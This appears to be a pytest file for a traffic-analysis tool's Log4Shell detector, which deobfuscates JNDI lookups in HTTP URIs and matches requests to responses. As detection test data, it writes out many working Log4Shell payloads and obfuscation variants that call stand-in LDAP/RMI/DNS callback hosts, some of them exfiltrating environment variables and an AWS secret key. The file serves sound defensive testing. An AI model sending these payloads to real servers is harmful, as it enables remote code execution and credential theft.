"""Log4Shell indicators: every obfuscation form of the JNDI string (a corpus from the public
bypass lists), Log4j's lookup semantics, no evaluation, linear work, the HTTP request table,
and the bundled scan's requests."""

from __future__ import annotations

import csv

import pandas as pd
import pytest
from conftest import REPO, bundled_results
from packet_factory import handshake, packet_frame, portless, tcp

from tracelab.security.connections import assemble_connections, flow_settings
from tracelab.security.http import http_requests
from tracelab.security.log4shell import (
    MAX_ESCAPE_LAYERS,
    MAX_LOOKUP_ROUNDS,
    deobfuscate,
    jndi_indicator,
    unwrap,
    uri_indicators,
)

CORPUS = REPO / "tests/data/log4shell_corpus.tsv"


def _corpus(kind: str) -> list[dict]:
    with open(CORPUS, newline="", encoding="utf-8") as table:
        return [row for row in csv.DictReader(table, delimiter="\t") if row["kind"] == kind]

CALLBACK = {"jndi": True, "jndi_scheme": "ldap", "jndi_host": "198.51.100.7", "jndi_port": 1389}


@pytest.mark.parametrize("form, uri", [
    ("plain", "/?x=${jndi:ldap://198.51.100.7:1389/a}"),
    ("lower", "/?x=${jndi:${lower:l}${lower:D}a${lower:p}://198.51.100.7:1389/a}"),
    ("upper", "/?x=${${upper:j}ndi:ldap://198.51.100.7:1389/a}"),
    ("empty default", "/?x=${${::-j}${::-n}${::-d}${::-i}:${::-l}dap://198.51.100.7:1389/a}"),
    ("env default", "/?x=${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://198.51.100.7:1389/a}"),
    ("sys default", "/?x=${${sys:nope:-j}ndi:ldap://198.51.100.7:1389/a}"),
    ("date literal", "/?x=${${date:'j'}${date:'n'}di:ldap://198.51.100.7:1389/a}"),
    ("url encoded", "/?x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%3A1389%2Fa%7D"),
    ("double url encoded",
     "/?x=%2524%257Bjndi%253Aldap%253A%252F%252F198.51.100.7%253A1389/a%257D"),
    ("encoded lookups", "/?x=%24%7B%24%7Blower%3AJ%7Dndi%3Aldap%3A//198.51.100.7%3A1389/a%7D"),
    ("nested", "/?x=${${lower:${upper:j}}ndi:ldap://198.51.100.7:1389/a}"),
    ("mixed case", "/?x=${JnDi:LDAP://198.51.100.7:1389/a}"),
])
def test_every_obfuscation_form_reveals_the_lookup(form, uri):
    found = jndi_indicator(uri)
    assert {key: found[key] for key in CALLBACK} == CALLBACK
    assert found["jndi_obfuscated"] is (form not in ("plain", "mixed case"))


@pytest.mark.parametrize("scheme", ["ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nds",
                                    "nis", "http"])
def test_every_jndi_scheme_and_its_callback(scheme):
    found = jndi_indicator(f"/a?${{jndi:{scheme}://cb.example:4444/x}}")
    assert (found["jndi_scheme"], found["jndi_host"], found["jndi_port"]) == \
        (scheme, "cb.example", 4444)


def test_callback_without_a_port_and_on_ipv6():
    assert jndi_indicator("/${jndi:dns://cb.example/q}")["jndi_port"] is None
    found = jndi_indicator("/${jndi:ldap://[2001:db8::1]:1389/a}")
    assert (found["jndi_host"], found["jndi_port"]) == ("[2001:db8::1]", 1389)


def test_a_callback_cut_by_the_snap_length_is_not_reported_in_part():
    cut_port = "/?x=${jndi:${lower:l}dap://198.51.100.7:13"
    assert jndi_indicator(cut_port)["jndi_port"] == 13
    assert (jndi_indicator(cut_port, truncated=True)["jndi_host"],
            jndi_indicator(cut_port, truncated=True)["jndi_port"]) == ("198.51.100.7", None)
    assert jndi_indicator("/?x=${jndi:rmi:/", truncated=True)["jndi_host"] is None
    whole = jndi_indicator("/?x=${jndi:ldap://198.51.100.7:1389/a", truncated=True)
    assert (whole["jndi_host"], whole["jndi_port"]) == ("198.51.100.7", 1389)


def test_the_whole_lookup_is_kept_with_its_exfiltration_part():
    found = jndi_indicator("/?x=${jndi:${lower:l}dap://198.51.100.7:1389/${env:USER}} HTTP")
    assert found["jndi_lookup"] == "${jndi:ldap://198.51.100.7:1389/${env:USER}}"


def test_nothing_is_looked_up(monkeypatch):
    monkeypatch.setenv("USER", "secret-user-name")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "secret-key")
    text = "/${jndi:ldap://x.example/${env:USER}/${env:AWS_SECRET_ACCESS_KEY}/${sys:user.home}}"
    assert "secret" not in deobfuscate(text)
    assert deobfuscate(text) == text


def test_text_without_lookups_is_left_alone():
    for uri in ["/index.html", "/a%20b", "/${notalookup", "/}{$", "/$%7B"]:
        assert jndi_indicator(uri)["jndi"] is False


def test_deobfuscation_is_bounded():
    # 40 layers of URL encoding: the bounded loop stops; the text stays text.
    layered = "${jndi:ldap://x/a}"
    for _ in range(40):
        layered = layered.replace("%", "%25").replace("$", "%24").replace("{", "%7B")
    assert unwrap(layered).escape_layers == MAX_ESCAPE_LAYERS
    assert jndi_indicator("/" + "${" * 5000 + "x" + "}" * 5000)["jndi"] is False


def test_the_corpus_covers_the_public_lists():
    attacks, benign = _corpus("attack"), _corpus("benign")
    assert len({row["payload"] for row in attacks}) >= 100 and len(benign) >= 50
    assert all(row["source"] for row in attacks)


@pytest.mark.parametrize("row", _corpus("attack"), ids=lambda row: row["payload"][:60])
def test_every_variant_of_the_corpus_is_found_with_its_callback(row):
    found = jndi_indicator(row["payload"])
    assert found["jndi"] is True
    assert (found["jndi_scheme"] or "", found["jndi_host"] or "",
            str(found["jndi_port"] or "")) == (row["scheme"], row["host"], row["port"])
    assert found["jndi_host_unresolved"] is row["host"].startswith("*.")


@pytest.mark.parametrize("row", _corpus("benign") + _corpus("inert"),
                         ids=lambda row: row["payload"][:60])
def test_no_look_alike_is_flagged(row):
    assert jndi_indicator(row["payload"])["jndi"] is False


@pytest.mark.parametrize("text, plain", [
    ("${lower:J:-x}", "j"),  # the lookup yields a value: the default is not used
    ("${upper::-j}", ""),  # UpperLookup of the empty key is empty, not null
    ("${date:}", ""),  # an empty date pattern prints nothing
    ("${date:':'}", ":"),
    ("${date:'it''s'}", "it's"),
    ("${date:/.}", "/."),  # non-letters print as themselves
    ("${date:-/.}", "/."),  # `:-` starts a default: the lookup `date` is null
    ("${date:yyyy}", "${date:yyyy}"),  # a real date: unknown here
    ("${env:NOPE:-a}${sys:nope:-b}${x:y:z:-c}${::-d}${:-e}", "abcde"),
    ("${hostName:-x}${env:hostName:-x}", "${hostName:-x}${env:hostName:-x}"),  # always set
    ("${java:version:-x}", "${java:version:-x}"),
    ("${env:USER}", "${env:USER}"),  # never looked up
    ("\\u0024\\u007b::-j\\u007d %u0024%u007B::-k%u007D %5Cu0024%5Cu007b::-l%5Cu007d", "j k l"),
])
def test_lookups_resolve_as_in_log4j(text, plain):
    assert deobfuscate(text) == plain


@pytest.mark.parametrize("text", [
    "${" * (1 << 19),
    "${lower:" * (1 << 17) + "j" + "}" * (1 << 17),
    "%25" * ((1 << 20) // 3),
    "%" + "25" * (1 << 19),
    "\\u0024" * ((1 << 20) // 6),
    "${::-a}" * ((1 << 20) // 7),
    "${jndi:ldap://" + "${x}" * (1 << 18),
], ids=["open", "nested", "percent", "layered", "unicode", "dense", "host"])
def test_the_work_is_linear_in_the_text(text):
    """1 MiB adversarial texts: a bounded number of passes, each reading at most the text, and
    after the first lookup round only the span that changed (timings: benchmarks/)."""
    work = unwrap(text)
    assert work.escape_layers <= MAX_ESCAPE_LAYERS and work.lookup_rounds <= MAX_LOOKUP_ROUNDS
    assert work.chars_read <= 8 * len(text)
    assert jndi_indicator(text)["jndi"] is text.startswith("${jndi:")


def test_uri_shape_columns():
    shape = uri_indicators(pd.Series(["/a%20b%2Fc", "/plain", "/x?q=${jndi:dns://a/b}", None]))
    assert shape["uri_length"].tolist() == [10, 6, 22, 0]
    assert shape["percent_encoded_share"].tolist() == pytest.approx([0.6, 0.0, 0.0, 0.0])
    assert shape["lookups"].tolist() == [0, 0, 1, 0]
    assert shape["jndi"].tolist() == [False, False, True, False]
    unresolved = uri_indicators(pd.Series(["/${jndi:dns://${env:X}.attacker.tld/a}"]))
    assert (unresolved["jndi_host"].iloc[0], unresolved["jndi_host_unresolved"].iloc[0]) == \
        ("*.attacker.tld", True)


CLIENT, SERVER = "10.0.0.1", "10.0.0.2"


def request(t: float, port: int, seq: int, uri: str, method: str = "GET") -> dict:
    """A 30-byte request line from the client's `port` to the server's port 80."""
    return tcp(t, CLIENT, port, SERVER, 80, "PA", seq=seq, payload=30, protocol="HTTP",
               http_method=method, http_uri=uri)


def response(t: float, port: int, seq: int, status: int) -> dict:
    """A 50-byte response from the server's port 80 to the client's `port`."""
    return tcp(t, SERVER, 80, CLIENT, port, "PA", seq=seq, payload=50, protocol="HTTP",
               http_status=status)


def test_requests_are_matched_to_their_responses_in_order():
    rows = [*handshake(0, CLIENT, 40000, SERVER, 80),
            request(0.01, 40000, 1, "/first"), request(0.02, 40000, 31, "/missing"),
            response(0.03, 40000, 1, 200), response(0.04, 40000, 51, 404),
            request(0.05, 40000, 61, "/unanswered", method="POST"),
            portless(0.06, "10.0.0.8", "10.0.0.9", "HTTP", http_method="GET",
                     http_uri="/nowhere/${jndi:ldap://cb:13", http_version=None)]
    packets = packet_frame(rows)
    connection = assemble_connections(packets, flow_settings(), "t")
    http = http_requests(packets, connection.packet_uid, "t")
    assert http["uri"].tolist() == ["/first", "/missing", "/unanswered",
                                    "/nowhere/${jndi:ldap://cb:13"]
    assert http["uri_truncated"].tolist() == [False, False, False, True]
    assert pd.isna(http["jndi_port"].iloc[3]) and http["jndi_host"].iloc[3] == "cb"
    assert http["status"].tolist()[:2] == [200, 404]
    assert http["status"].isna().tolist()[2:] == [True, True]
    assert http["uid"].tolist()[:3] == [connection.flows["uid"][0]] * 3
    assert pd.isna(http["uid"].iloc[3])


def test_responses_match_within_their_connection_by_time_then_frame_in_any_row_order():
    rows = [*handshake(0, CLIENT, 40000, SERVER, 80), *handshake(0.001, CLIENT, 40001, SERVER, 80),
            request(0.01, 40000, 1, "/a1"), request(0.02, 40001, 1, "/b1"),
            response(0.03, 40001, 1, 301), request(0.04, 40000, 31, "/a2"),
            # Two responses at one time: the frame says which came first.
            response(0.05, 40000, 1, 200), response(0.05, 40000, 51, 404)]
    packets = packet_frame(rows)
    uid = assemble_connections(packets, flow_settings(), "t").packet_uid
    backwards = packets.iloc[::-1].reset_index(drop=True)
    http = http_requests(backwards, uid[::-1], "t")
    assert http["uri"].tolist() == ["/a1", "/b1", "/a2"]
    assert http["status"].tolist() == [200, 301, 404]
    assert http["uid"].nunique() == 2 and http["uid"].iloc[0] == http["uid"].iloc[2]


def test_requests_without_any_response_have_no_status():
    packets = packet_frame([*handshake(0, CLIENT, 40000, SERVER, 80),
                            request(0.01, 40000, 1, "/a")])
    http = http_requests(packets, assemble_connections(packets, flow_settings(), "t")
                         .packet_uid, "t")
    assert http["uri"].tolist() == ["/a"] and http["status"].isna().all()


def test_bundled_scan_requests_all_carry_the_callback():
    """Independently: every GET in the export's Info carries `${`, and the scanner's own
    address and port 1389 follow `://` once letters are rebuilt."""
    export = pd.read_csv(REPO / "data/log4j_scan.csv.gz")
    requests = export[export["Info"].str.startswith("GET ")]
    assert requests["Info"].str.contains("${", regex=False).all()
    http = pd.read_parquet(bundled_results() / "features/log4j_scan/http.parquet")
    assert len(http) == len(requests)
    assert http["jndi"].all()
    assert set(http["jndi_host"] + ":" + http["jndi_port"].astype(str)) == {"198.18.0.2:1389"}
    assert set(http["jndi_scheme"]) <= {"ldap", "dns", "rmi"}
    obfuscated = ~requests["Info"].str.contains(r"\$\{jndi:[a-z]+://", regex=True)
    assert http["jndi_obfuscated"].sum() == obfuscated.sum() > 0
    assert (http["status"] == 200).all()


def test_bundled_capture_cut_at_128_bytes_reports_no_partial_callback():
    """The pcapng keeps 128 bytes a packet: long request lines end early."""
    http = pd.read_parquet(bundled_results() / "features/log4j_scan_pcap/http.parquet")
    assert http["jndi"].all() and http["uri_truncated"].any()
    assert set(http["jndi_port"].dropna()) == {1389}
    assert set(http["jndi_host"].dropna()) == {"198.18.0.2"}


def test_bundled_browsing_has_no_indicator():
    http = pd.read_parquet(bundled_results() / "features/web_browsing/http.parquet")
    assert len(http) > 0 and not http["jndi"].any()
